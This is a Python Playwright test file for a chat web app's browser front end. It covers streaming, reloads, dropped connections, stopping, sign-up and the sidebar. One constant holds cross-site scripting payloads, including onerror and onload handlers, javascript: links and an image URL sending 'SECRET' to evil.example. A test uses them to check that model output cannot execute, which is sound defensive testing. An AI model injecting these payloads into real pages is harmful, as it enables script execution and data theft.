@@ -1,0 +1,332 @@
+"""The page in a real browser, against the real server."""
+
+import asyncio
+import contextlib
+import json
+import re
+import sqlite3
+from collections.abc import Awaitable, Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from playwright.async_api import Locator, Page, expect
+
+from chat import events, recording
+from chat.events import Event
+from tests.servers.wondercam import Serve, WonderCam
+
+LONG = {"WONDERCAM_MODELS": "recording/long"}
+ATTACKS = (
+    "<img src=x onerror=window.__pwned=1> <svg/onload=window.__pwned=1> <script>window.__pwned=1</script>\n\n"
+    "[go](javascript:window.__pwned=1) [go](&#106;avascript:window.__pwned=1) ![x](http://evil.example/?q=SECRET)\n\n"
+    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe> <style>@import '//evil.example'</style>\n\n"
+    "```html\n<script>window.__pwned=1</script>\n```\n\n| <img src=x onerror=window.__pwned=1> |\n|---|\n| x |\n"
+)
+
+Start = Callable[..., Awaitable[WonderCam]]
+
+
+@pytest.fixture
+def start(serve: Serve, page: Page) -> Start:
+    """Start a server and open its page; console errors and violated policies fail the test."""
+
+    async def start(env: dict[str, str]) -> WonderCam:
+        server = serve(env)
+        await page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+        await page.goto(server.url)
+        return server
+
+    return start
+
+
+class Line:
+    """What lies between a browser and the server, to be cut."""
+
+    def __init__(self, port: int) -> None:
+        self._port = port
+        self._open: set[asyncio.StreamWriter] = set()
+        self.cuts = 0
+
+    async def __aenter__(self) -> "Line":
+        self._server = await asyncio.start_server(self._connect, "127.0.0.1", 0)
+        self.url = f"http://127.0.0.1:{self._server.sockets[0].getsockname()[1]}"
+        return self
+
+    async def __aexit__(self, *_: object) -> None:
+        self._server.close()
+        self.cut()
+
+    def cut(self) -> None:
+        """Every connection that is open breaks off at once, wherever it is."""
+        for writer in self._open:
+            writer.transport.abort()
+            self.cuts += 1
+        self._open.clear()
+
+    async def _connect(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        back_reader, back = await asyncio.open_connection("127.0.0.1", self._port)
+        self._open |= {writer, back}
+        await asyncio.gather(self._pass(reader, back), self._pass(back_reader, writer))
+
+    async def _pass(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        with contextlib.suppress(OSError):
+            while data := await reader.read(65536):
+                writer.write(data)
+                await writer.drain()
+        writer.close()
+        self._open.discard(writer)
+
+
+def answer(page: Page) -> Locator:
+    """The newest answer."""
+    return page.locator("article[data-role=model]").last
+
+
+async def ask(page: Page, question: str) -> None:
+    """Type and send."""
+    await page.get_by_label("Your message").fill(question)
+    await page.keyboard.press("Enter")
+
+
+async def ended(page: Page, status: str, seconds: float = 30) -> None:
+    """The newest answer has come to this end."""
+    await expect(answer(page)).to_have_attribute("data-status", status, timeout=seconds * 1000)
+
+
+async def grown_to(page: Page, length: int) -> None:
+    """The newest answer shows at least so many characters."""
+    await page.wait_for_function(
+        "length => [...document.querySelectorAll('article[data-role=model] [data-part=text]')].at(-1)"
+        "?.textContent.length >= length",
+        arg=length,
+    )
+
+
+async def copied(page: Page) -> str:
+    """The newest answer's text, by its copy button."""
+    await answer(page).get_by_label("Copy this answer").click()
+    await expect(answer(page).get_by_label("Copy this answer")).to_have_attribute("data-done", "")
+    return str(await page.evaluate("navigator.clipboard.readText()"))
+
+
+def stored(server: WonderCam, stream: str) -> str:
+    """The answer's text in the database."""
+    with sqlite3.connect(server.data_dir / "wondercam.sqlite3") as database:
+        query = (
+            "SELECT parts FROM chat_message JOIN chat_stream ON answer_id = chat_message.id WHERE chat_stream.id = ?"
+        )
+        (parts,) = database.execute(query, [stream.replace("-", "")]).fetchone()
+    return "".join(part["text"] for part in json.loads(parts))
+
+
+async def assert_equal_everywhere(page: Page, server: WonderCam) -> None:
+    """The page's text is the database's, and what a replay prints."""
+    stream = str(await answer(page).get_attribute("data-stream"))
+    shown = await copied(page)
+    assert shown
+    assert shown == stored(server, stream)
+    assert shown == server.manage("replay_stream", stream, "--speed", "0", "--format", "text")
+
+
+async def test_a_guest_asks_the_embedded_model_and_reloads_in_the_middle(page: Page, start: Start) -> None:
+    server = await start({})
+    await ask(page, "Tell me a long story about a lighthouse, in many sentences.")
+    await expect(page.locator("article[data-role=user] [data-part=mark]")).to_have_text("Sent")
+    await expect(answer(page)).to_have_attribute("data-status", "running")
+    await grown_to(page, 1)
+    before = len(await answer(page).locator("[data-part=text]").inner_text())
+    await grown_to(page, before + 20)
+    await expect(answer(page)).to_have_attribute("data-status", "running")
+    await page.reload()
+    await ended(page, "complete", 90)
+    assert "/c/" in page.url
+    await assert_equal_everywhere(page, server)
+
+
+async def test_a_reload_in_the_middle_of_an_answer_gives_the_whole_answer(page: Page, start: Start) -> None:
+    server = await start(LONG)
+    await ask(page, "Why is the sky blue?")
+    await grown_to(page, 40)
+    await page.reload()
+    await grown_to(page, 40)
+    await expect(answer(page)).to_have_attribute("data-status", "running")
+    await ended(page, "complete")
+    await assert_equal_everywhere(page, server)
+    live = await answer(page).locator("[data-part=text]").inner_html()
+    await page.reload()
+    await expect(page.locator("article figure figcaption").first).to_be_visible()
+    assert without_colours(await answer(page).locator("[data-part=text]").inner_html()) == without_colours(live)
+
+
+def without_colours(html: str) -> str:
+    """The highlighter comes when it is loaded; what it colours does not change."""
+    return re.sub(r"</?span[^>]*>", "", html)
+
+
+async def test_the_line_drops_and_the_answer_goes_on_without_a_second_question(page: Page, start: Start) -> None:
+    server = await start(LONG)
+    posts: list[str] = []
+    page.on("request", lambda sent: posts.append(sent.url) if sent.url.endswith("/v2/echat") else None)
+    async with Line(server.port) as line:
+        await page.goto(line.url)
+        await ask(page, "Why is the sky blue?")
+        for length in (40, 400, 800):
+            await grown_to(page, length)
+            line.cut()
+        await ended(page, "complete")
+        assert line.cuts >= 3
+        assert len(posts) == 1
+        await assert_equal_everywhere(page, server)
+
+
+async def test_stop_keeps_what_was_written_and_try_again_answers_anew(page: Page, start: Start) -> None:
+    server = await start(LONG)
+    await ask(page, "Why is the sky blue?")
+    await grown_to(page, 40)
+    await page.get_by_label("Stop the answer").click()
+    await ended(page, "stopped", 3)
+    assert 40 <= len(await copied(page)) < 900
+    await assert_equal_everywhere(page, server)
+    await expect(answer(page)).to_contain_text("You stopped this answer.")
+    await page.get_by_role("button", name="Try again").click()
+    await ended(page, "complete")
+    await expect(page.locator("article")).to_have_count(2)
+    await assert_equal_everywhere(page, server)
+
+
+async def test_stop_works_before_the_first_word(page: Page, start: Start) -> None:
+    await start({"WONDERCAM_MODELS": "recording/long", "WONDERCAM_RECORDING_SPEED": "0.05"})
+    await ask(page, "Why is the sky blue?")
+    await page.get_by_label("Stop the answer").click()
+    await ended(page, "stopped", 3)
+
+
+async def test_a_server_killed_in_the_middle_says_so_and_offers_another_try(page: Page, start: Start) -> None:
+    server = await start(LONG)
+    await ask(page, "Why is the sky blue?")
+    await grown_to(page, 40)
+    server.kill9()
+    await expect(answer(page).locator("[data-part=line]")).to_contain_text("connection was lost")
+    shown = await answer(page).locator("[data-part=text]").inner_text()
+    server.restart()
+    await ended(page, "interrupted")
+    assert (await answer(page).locator("[data-part=text]").inner_text()).startswith(shown)
+    await expect(answer(page)).to_contain_text("went away in the middle")
+    await page.reload()
+    await expect(answer(page)).to_contain_text("went away in the middle")
+    await assert_equal_everywhere(page, server)
+    await page.get_by_role("button", name="Try again").click()
+    await ended(page, "complete")
+
+
+async def test_what_a_model_says_can_do_nothing(page: Page, start: Start, tmp_path: Path) -> None:
+    text = [Event(n, n * 1000, events.encode(events.delta(letter))) for n, letter in enumerate(ATTACKS, 1)]
+    end = Event(len(text) + 1, 10**6, events.encode(events.finish("STOP")))
+    lines = recording.dump({"title": "attack"}, [Event(0, 0, events.OK_DATA), *text, end])
+    (tmp_path / "attack.jsonl").write_text("".join(lines))
+    foreign: list[str] = []
+    page.on("request", lambda sent: foreign.append(sent.url) if "127.0.0.1" not in sent.url else None)
+    server = await start({"WONDERCAM_MODELS": "recording/attack", "WONDERCAM_RECORDINGS": str(tmp_path)})
+    await page.evaluate(
+        "addEventListener('securitypolicyviolation', event => { window.__violation = event.violatedDirective })"
+    )
+    await ask(page, ATTACKS)
+    await ended(page, "complete")
+    await assert_equal_everywhere(page, server)
+    await page.reload()
+    await expect(page.locator("article figure figcaption").first).to_be_visible()
+    assert await page.evaluate("[window.__pwned, window.__violation]") == [None, None]
+    assert [url for url in foreign if not url.startswith("blob:")] == []
+    made = await page.evaluate(
+        "[...document.querySelectorAll('article :is(img, script, iframe, style, svg *)')].length"
+    )
+    assert made == await page.evaluate("document.querySelectorAll('article svg use').length")
+
+
+async def test_no_token_is_kept_where_a_script_of_another_day_could_find_it(page: Page, start: Start) -> None:
+    await start({"WONDERCAM_MODELS": "recording/hello"})
+    await ask(page, "Hello?")
+    await ended(page, "complete")
+    kept: Any = await page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie])")
+    assert "eyJ" not in kept
+    assert "session" not in kept
+
+
+async def test_a_draft_survives_a_reload_and_goes_when_it_is_stored(page: Page, start: Start) -> None:
+    await start({"WONDERCAM_MODELS": "recording/hello"})
+    box = page.get_by_label("Your message")
+    await box.fill("half a thou")
+    await page.reload()
+    await expect(box).to_have_value("half a thou")
+    await box.press("Shift+Enter")
+    await expect(box).to_have_value("half a thou\n")
+    await box.press("Enter")
+    await ended(page, "complete")
+    await page.goto("/".join(page.url.split("/")[:3]))
+    await expect(box).to_have_value("")
+
+
+async def test_chats_are_renamed_pinned_and_deleted_in_the_sidebar(page: Page, start: Start) -> None:
+    await start({"WONDERCAM_MODELS": "recording/hello"})
+    for question in ("First", "Second"):
+        await page.goto("/".join(page.url.split("/")[:3]))
+        await ask(page, question)
+        await ended(page, "complete")
+    rows = page.locator("#conversations li")
+    await expect(rows).to_have_text(["Second", "First"], use_inner_text=True)
+    await rows.last.hover()
+    await rows.last.get_by_label("Pin").click()
+    await expect(rows).to_have_text(["First", "Second"], use_inner_text=True)
+    await rows.first.hover()
+    await rows.first.get_by_label("Rename").click()
+    await page.get_by_label("New name").fill("The very first")
+    await page.keyboard.press("Enter")
+    await expect(rows.first).to_contain_text("The very first")
+    await page.reload()
+    await expect(rows).to_have_text(["The very first", "Second"], use_inner_text=True)
+    await rows.last.hover()
+    await rows.last.get_by_label("Delete").click()
+    await page.get_by_role("button", name="Delete", exact=True).click()
+    await expect(rows).to_have_count(1)
+    await page.wait_for_url(lambda url: "/c/" not in url)
+
+
+async def test_a_guest_who_signs_up_keeps_the_chats_and_finds_them_after_signing_in(page: Page, start: Start) -> None:
+    await start({"WONDERCAM_MODELS": "recording/hello"})
+    await ask(page, "Remember me")
+    await ended(page, "complete")
+    await page.get_by_role("link", name="Sign up").click()
+    await page.get_by_label("Username").fill("ada")
+    await page.get_by_label("Password", exact=True).fill("correct horse battery")
+    await page.get_by_label("Password confirmation").fill("correct horse battery")
+    await page.get_by_role("button", name="Sign up").click()
+    await expect(page.locator("#conversations li")).to_have_text(["Remember me"], use_inner_text=True)
+    await page.get_by_role("button", name="Sign out").click()
+    await expect(page.locator("#conversations li")).to_have_count(0)
+    await page.get_by_role("link", name="Sign in").click()
+    await page.get_by_label("Username").fill("ada")
+    await page.get_by_label("Password").fill("correct horse battery")
+    await page.get_by_role("button", name="Sign in").click()
+    await page.get_by_role("link", name="Remember me").click()
+    await expect(answer(page)).to_have_attribute("data-status", "complete")
+
+
+async def test_a_second_tab_follows_the_same_answer(page: Page, start: Start) -> None:
+    server = await start(LONG)
+    await ask(page, "Why is the sky blue?")
+    await grown_to(page, 40)
+    other = await page.context.new_page()
+    await other.goto(page.url)
+    await asyncio.gather(ended(page, "complete"), ended(other, "complete"))
+    await assert_equal_everywhere(page, server)
+    await assert_equal_everywhere(other, server)
+
+
+async def test_a_refused_question_says_why_and_is_not_lost(page: Page, start: Start) -> None:
+    await start({"WONDERCAM_MODELS": "recording/hello", "WONDERCAM_LIMIT_PROMPT_BYTES": "20"})
+    await ask(page, "This is longer than twenty bytes.")
+    await ended(page, "failed")
+    await expect(answer(page).locator("[data-part=sentence]")).not_to_be_empty()
+    await page.reload()
+    await expect(page.get_by_label("Your message")).to_have_value("This is longer than twenty bytes.")
